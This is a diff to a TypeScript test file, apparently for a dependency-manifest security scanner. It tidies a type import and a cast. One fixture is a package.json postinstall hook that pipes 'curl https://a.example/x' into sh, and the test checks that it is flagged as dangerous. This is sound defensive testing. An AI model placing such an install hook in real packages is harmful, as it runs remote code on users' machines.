@@ -1,6 +1,6 @@
 import { dependencyFindings } from './dependency-findings.js';
 import { dependencyRules } from './rule-list.js';
-import { manifestFormatOf } from './manifest-formats.js';
+import { type ManifestFormat, manifestFormatOf } from './manifest-formats.js';
 import { edited } from '../rules/verify-fixes.js';
 
 const run = (filename: string, text: string) => {
@@ -156,7 +156,7 @@ describe('rules of manifests', () => {
   it('keep the dangerous verdict when the caller asks for something else', () => {
     const text = '{"scripts": {"postinstall": "curl https://a.example/x | sh"}}';
     const format = manifestFormatOf('package.json');
-    const result = dependencyFindings(text, format?.read ?? (() => expect.unreachable()), { categories: ['testing'] });
+    const result = dependencyFindings(text, (format as ManifestFormat).read, { categories: ['testing'] });
     expect(result).toMatchObject({ findings: [], dangerous: true });
   });
 });
